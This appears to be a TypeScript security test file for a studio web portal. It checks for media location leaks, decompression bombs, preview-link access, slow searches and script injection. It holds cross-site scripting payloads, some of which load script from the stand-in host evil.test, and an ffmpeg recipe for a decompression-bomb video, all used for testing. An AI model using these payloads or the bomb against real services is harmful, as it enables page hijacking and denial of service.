import { spawnSync } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { readFileSync, readdirSync } from 'node:fs'
import { setTimeout as sleep } from 'node:timers/promises'

import sharp from 'sharp'

import { stripNonce } from '../../../app/platform/csp.server.ts'
import type { Attempts, Scene } from './attempts.ts'
import { withData } from '../../support/data.ts'
import { sendRequest, sendForm } from '../../support/http.ts'
import { buildLocatedFiles, locationMarks } from '../../support/located.ts'
import { type Program, createFolder, startProgram } from '../../support/program.ts'
import { sampleBehindProxy, getSession } from '../../support/sign-in.ts'
import { uploadFile } from '../../support/upload.ts'

type Item = { id: string; hash: string }

/** Uploads a file to the library as the portal does. */
async function addFile(
  program: Program,
  cookie: string,
  bytes: Buffer,
  name: string,
): Promise<{ status: number; item?: Item }> {
  const { status, text } = await uploadFile({ program, cookie }, bytes, name, '')
  return { status, ...(status === 201 && { item: (JSON.parse(text) as { item: Item }).item }) }
}

/** Searches all files that visitors and crew may open for the location of a video. */
async function tryFileLocations(attempts: Attempts) {
  const program = await startProgram(sampleBehindProxy)
  const [owner, crew] = [await getSession(program, 'owner'), await getSession(program, 'crew')]
  for (const { about, kind, format, bytes } of buildLocatedFiles()) {
    const { item, status } = await addFile(program, owner, bytes, `a.${format}`)
    if (!attempts.checkPrecondition(`${about} arrives`, item !== undefined, status) || !item)
      continue
    for (const name of [
      `${kind}.${format}`,
      'original',
      'stream.mp4',
      'redaction.json',
      'poster.jpg',
    ]) {
      for (const [who, cookie] of [
        ['a visitor', ''],
        ['crew', crew],
      ] as const) {
        const { status, text } = await sendRequest(`${program.url}/media/${item.hash}-${name}`, {
          headers: { ...(cookie && { cookie }) },
        })
        attempts.recordAttempt(`${about}: ${name} for ${who}`, status === 200, status)
        attempts.recordAttempt(
          `${about}: its location, in ${name} for ${who}`,
          locationMarks.test(text),
        )
      }
    }
    const played = await fetch(`${program.url}/media/${item.hash}-${kind}.${format}`, {
      headers: { cookie: owner },
    })
    attempts.recordAttempt(
      `${about}: its location, in the played file`,
      played.status === 200 &&
        locationMarks.test(Buffer.from(await played.arrayBuffer()).toString('latin1')),
    )
  }
  await program.stop()
}

/** Uploads a small file that decodes to gigabytes. */
async function tryDecompressionBombs(attempts: Attempts) {
  const file = `${createFolder()}/bomb.mov`
  const made = spawnSync(
    'ffmpeg',
    [
      '-v',
      'error',
      '-f',
      'lavfi',
      '-i',
      'color=c=gray:s=12000x12000:r=1',
      '-frames:v',
      '2',
      '-c:v',
      'png',
      '-threads',
      '1',
      '-y',
      file,
    ],
    { timeout: 240_000 },
  )
  if (made.status !== 0)
    return attempts.say('  without FFmpeg nothing is decoded, so there are no decompression bombs')
  const program = await startProgram(sampleBehindProxy)
  const owner = await getSession(program, 'owner')
  let most = 0
  let watching = true
  const watch = (async () => {
    for (; watching; await sleep(50)) most = Math.max(most, ...readChildMemory(program.pid))
  })()
  const { status, item } = await addFile(program, owner, readFileSync(file), 'bomb.mov')
  await sleep(25_000)
  watching = false
  await watch
  const mb = Math.round(most / 1024)
  attempts.say(
    `  a video of ${Math.round(readFileSync(file).length / 1024)} KB, 12000 x 12000: answered ` +
      `${status}, its largest process had ${mb} MB`,
  )
  attempts.recordAttempt('more than 1 GB for one small video', mb > 1024, mb)
  attempts.recordAttempt(
    'converting a video of that size',
    item !== undefined &&
      (
        await sendRequest(`${program.url}/media/${item.hash}-stream.mp4`, {
          headers: { cookie: owner },
        })
      ).status === 200,
  )
  attempts.checkPrecondition(
    'the program is still running',
    (await sendRequest(`${program.url}/up`)).status === 200,
  )
  await program.stop()
}

/** Returns the resident kilobytes of each child and grandchild of a process. */
function readChildMemory(pid: number): number[] {
  const parents = new Map<number, { parent: number; kb: number }>()
  for (const name of readdirSync('/proc').filter((one) => /^\d+$/.test(one))) {
    try {
      const status = readFileSync(`/proc/${name}/status`, 'utf8')
      parents.set(Number(name), {
        parent: Number(/^PPid:\s+(\d+)/m.exec(status)?.[1]),
        kb: Number(/^VmRSS:\s+(\d+)/m.exec(status)?.[1] ?? 0),
      })
    } catch {
      /* The process has ended. */
    }
  }
  const isIn = (one: number): boolean => {
    const parent = parents.get(one)?.parent ?? 0
    return parent === pid || (parent > 1 && isIn(parent))
  }
  return [0, ...[...parents].filter(([one]) => isIn(one)).map(([, { kb }]) => kb)]
}

/** A preview link opens the drafts, and only the library files they use. */
async function tryPreviewFiles(attempts: Attempts) {
  const program = await startProgram(sampleBehindProxy)
  const owner = await getSession(program, 'owner')
  const picture = await sharp({
    create: { width: 640, height: 480, channels: 3, background: '#369' },
  })
    .jpeg()
    .toBuffer()
  const { item } = await addFile(program, owner, picture, 'secret.jpg')
  const { link } = JSON.parse(
    (
      await sendForm(
        program,
        '/portal/website/links',
        {},
        { cookie: owner, accept: 'application/json' },
      )
    ).text,
  ) as { link: string }
  const opened = await sendRequest(`${program.url}${new URL(link).pathname}`)
  const cookie = (opened.headers['set-cookie'] ?? []).map((line) => line.split(';')[0]).join('; ')
  attempts.checkPrecondition(
    'the preview link opens the drafts',
    [200, 302].includes(opened.status) && cookie !== '',
    opened.status,
  )
  for (let round = 0; round < 200; round++) {
    if (
      (
        await sendRequest(`${program.url}/media/${item!.hash}-480.jpg`, {
          headers: { cookie: owner },
        })
      ).status === 200
    )
      break
    await sleep(100)
  }
  for (const name of ['480.jpg', '480.webp', '480.avif', '640.webp', 'original', '1200.jpg']) {
    for (const [who, headers] of [
      ['preview link', { cookie }],
      ['a stranger', {}],
    ] as const) {
      const { status } = await sendRequest(`${program.url}/media/${item!.hash}-${name}`, {
        headers,
      })
      attempts.recordAttempt(`a file no draft shows, ${name}, for ${who}`, status === 200, status)
    }
  }
  await program.stop()
}

/** A search of seven thousand words doesn't delay other requests. */
async function tryLongSearches(attempts: Attempts) {
  const program = await startProgram(sampleBehindProxy)
  const [owner, crew] = [await getSession(program, 'owner'), await getSession(program, 'crew')]
  const words = encodeURIComponent(Array.from({ length: 1500 }, (_, n) => `w${n}`).join(' ')).slice(
    0,
    14_000,
  )
  await sendRequest(`${program.url}/book/photography`)
  for (const [path, cookie] of [
    ['/portal/projects/list', crew],
    ['/portal/clients', owner],
    ['/portal/clients/inquiries', owner],
    ['/portal/bookings/list', owner],
    ['/portal/media', owner],
    ['/portal/search', owner],
  ] as const) {
    const long = sendRequest(`${program.url}${path}?q=${words}`, { headers: { cookie } })
    await sleep(20)
    const [{ status, ms }, visitor] = await Promise.all([
      long,
      sendRequest(`${program.url}/book/photography?asked=${randomUUID()}`),
    ])
    attempts.recordAttempt(
      `${path}: all requests waiting for one search`,
      ms > 4000 || visitor.ms > 4000 || status >= 500,
      { status, ms: Math.round(ms), visitor: Math.round(visitor.ms) },
    )
  }
  await program.stop()
}

const scripts = [
  '<script>alert(1)</script>',
  '<script type="module">import "https://evil.test/a.js"</script>',
  '<script src="https://evil.test/a.js"></script>',
  '<style>*{background:url(//evil.test)}</style>',
  '<script type="application/ld+json" src="//evil.test"></script>',
  '<SCRIPT >alert(1)</SCRIPT>',
]
const markup = [
  ...scripts,
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '{"a":"</script><script>alert(1)</script>"}',
]

/** Typed text is escaped on every page, and a page with a foreign script is never served. */
async function tryScripts(attempts: Attempts) {
  const first = await startProgram({})
  await first.stop()
  await withData(first, (query) =>
    query('update studio set name = $1, legal_name = $1, content_version = content_version + 1', [
      markup.join(' '),
    ]),
  )
  const program = await startProgram({ DATA_DIR: first.dataDir })
  for (const path of [
    '/',
    '/about',
    '/contact',
    '/portfolio',
    '/auth',
    '/manifest.webmanifest',
    '/sitemap.xml',
  ]) {
    const { text, headers } = await sendRequest(`${program.url}${path}`)
    const isPage = String(headers['content-type']).startsWith('text/html')
    for (const evil of markup.filter((one) => one.startsWith('<') || one.startsWith('"')))
      attempts.recordAttempt(`${path}: a studio called ${evil}`, isPage && text.includes(evil))
    attempts.recordAttempt(
      `${path}: a policy that allows any script`,
      isPage &&
        /unsafe-inline|unsafe-eval|evil\.test|script-src \*/.test(
          String(headers['content-security-policy']),
        ),
    )
  }
  await program.stop()
  for (const evil of scripts) {
    let isGiven = true
    try {
      stripNonce(`<body><script nonce="ours">1</script>${evil}</body>`, 'ours')
    } catch {
      isGiven = false
    }
    attempts.recordAttempt(`a cached page with ${evil}`, isGiven)
  }
}

export const fileScenes: Record<string, Scene> = {
  'locations in files': tryFileLocations,
  'decompression bombs': tryDecompressionBombs,
  'files behind a preview link': tryPreviewFiles,
  'long searches': tryLongSearches,
  'foreign scripts': tryScripts,
}
